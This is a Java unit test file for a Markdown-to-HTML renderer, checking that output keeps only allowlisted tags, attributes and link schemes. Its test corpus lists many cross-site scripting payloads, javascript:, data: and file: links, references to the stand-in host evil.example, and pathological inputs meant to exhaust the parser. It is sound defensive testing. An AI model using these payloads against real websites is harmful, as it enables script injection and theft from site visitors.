package org.benzoguide.markdown;

import java.time.Duration;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;

import org.benzoguide.content.ContentFile;
import org.benzoguide.content.ContentImport;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

/**
 * Whatever an editor, or someone who got at a file, writes: the page holds only what we
 * allow.
 */
class HostileMarkdownTests {

	private static final Set<String> ELEMENTS = Set.of("html", "head", "body", "p", "br", "hr", "em", "strong", "code",
			"pre", "blockquote", "ul", "ol", "li", "h2", "h3", "h4", "h5", "h6", "a", "sup", "aside", "div", "table",
			"thead", "tbody", "tr", "th", "td");

	private static final Set<String> ATTRIBUTES = Set.of("id", "class", "start", "href", "aria-label", "role",
			"tabindex", "scope");

	@ParameterizedTest
	@MethodSource("corpus")
	void leavesOnlyWhatIsAllowed(String markdown) {
		String html = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> render(markdown));
		for (Element element : Jsoup.parse(html).getAllElements()) {
			assertThat(element.normalName()).isIn("#root", element.normalName())
				.satisfiesAnyOf((name) -> assertThat(name).isEqualTo("#root"),
						(name) -> assertThat(ELEMENTS).contains(name));
			for (Attribute attribute : element.attributes()) {
				assertThat(ATTRIBUTES).contains(attribute.getKey());
			}
			if (element.hasAttr("href")) {
				assertThat(element.attr("href")).matches("(?i)(https?://.*|mailto:.*|/([^/\\\\].*)?|#.*)");
			}
		}
	}

	@Test
	void showsRawHtmlAsText() {
		assertThat(render("A <b>bold</b> claim")).contains("&lt;b&gt;bold&lt;/b&gt;");
		assertThat(Jsoup.parse(render("<script>alert(1)</script>")).text()).contains("<script>alert(1)</script>");
	}

	private static String render(String markdown) {
		ContentImport content = new ContentImport(List.of());
		MarkdownPage page = MarkdownRendererTests.renderer().page(new ContentFile("a.md", ""), "/a", content);
		return page.finish(markdown, 1).html();
	}

	static Stream<String> corpus() {
		return Stream.of(scripts(), links(), shapes()).flatMap(Stream::of);
	}

	private static String[] scripts() {
		return new String[] { "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
				"<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
				"<svg><script>alert(1)</script></svg>", "<math><mtext><script>alert(1)</script>",
				"<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<body onload=alert(1)>",
				"<style>body{background:url(javascript:alert(1))}</style>", "<link rel=stylesheet href=//evil.example>",
				"<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
				"<form action=//evil.example><input name=q></form>", "<object data=javascript:alert(1)>",
				"<embed src=javascript:alert(1)>", "<details open ontoggle=alert(1)>",
				"<a href='javascript:alert(1)'>x</a>", "<div style='position:fixed;inset:0'>x</div>",
				"<!-- <script>alert(1)</script> -->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>",
				"<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "## <script>alert(1)</script>",
				"| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
				"`<script>alert(1)</script>`", "```html\n<script>alert(1)</script>\n```",
				"&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
				"\\<script>alert(1)\\</script>", "> [!GET-HELP-NOW]\n> <script>alert(1)</script>",
				"> [!<script>alert(1)</script>]\n> x", "[^<script>alert(1)</script>]", "[^\"onmouseover=alert(1)]" };
	}

	private static String[] links() {
		return new String[] { "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&#58;alert(1))",
				"[x](javascript&colon;alert(1))", "[x](&#106;avascript:alert(1))", "[x](&#x6A;&#x61;vascript:alert(1))",
				"[x](java\\script:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](<java\nscript:alert(1)>)",
				"[x](<\u0001javascript:alert(1)>)", "[x](%6Aavascript:alert(1))", "[x](vbscript:msgbox(1))",
				"[x](data:text/html,<script>alert(1)</script>)", "[x](data:text/html;base64,PHNjcmlwdD4=)",
				"[x](DATA&colon;text/html,x)", "[x](file:///etc/passwd)", "[x](blob:https://evil.example/x)",
				"[x](//evil.example)", "[x](/\\evil.example)", "[x](\\\\evil.example)", "[x](/%5Cevil.example)",
				"[x](https:evil.example)", "[x](http://)", "[x](tel:999)", "[x](sms:999)", "[x](intent://x#Intent;end)",
				"<javascript:alert(1)>", "<data:text/html,x>", "<//evil.example>", "[x][y]\n\n[y]: javascript:alert(1)",
				"[y]\n\n[y]: data:text/html,x", "![x](javascript:alert(1))", "![x](https://evil.example/pixel.gif)",
				"![x][y]\n\n[y]: https://evil.example/pixel.gif", "[x](/a \"onmouseover=alert(1)\")",
				"[x](/a '\"><script>alert(1)</script>')", "[x](https://a.example/\"onmouseover=alert(1))",
				"[x](mailto:a@b.example?body=<script>)", "[x](glossary:javascript:alert(1))",
				"[x](#\"onclick=alert(1))", "[<img src=x onerror=alert(1)>](/a)", "[x](\u202Ejavascript:alert(1))",
				"[x](ｊavascript:alert(1))" };
	}

	private static String[] shapes() {
		return new String[] { "```\nnever closed", "~~~~\nnever closed\n~~~", "> > > > > > deep",
				"> ".repeat(400) + "deep", "- ".repeat(400) + "deep", "[".repeat(3000),
				"[".repeat(800) + "]".repeat(800), "*".repeat(3000), "_a".repeat(1500), "`".repeat(3000) + "a",
				"[a](".repeat(800), "![".repeat(800), "<".repeat(3000), "&".repeat(3000), "[^".repeat(800),
				"#".repeat(400) + " x",
				"|" + " a |".repeat(300) + "\n|" + "---|".repeat(300) + "\n"
						+ ("|" + " b |".repeat(300) + "\n").repeat(60),
				"| a |\n|---|\n" + "| b |\n".repeat(3000), "\u0000", "a\u0000b", "\uFFFE\uFFFF", "\u202E\u2066reversed",
				"e\u0301".repeat(500), "👩‍👩‍👧‍👦".repeat(200), "\uD800", "\u2028\u2029", "\t\t\t\u000B\u000C", "",
				"## " + "long ".repeat(2000), "a".repeat(100_000), "[x](/" + "a".repeat(50_000) + ")",
				"1. a\n999999999999. b", "***", "---\n---\n---", "[ ]: x", "[^]: x", "[^a]: b\n[^a]: c", "> [!]",
				"> [!A", "[!GET-HELP-NOW]" };
	}

}
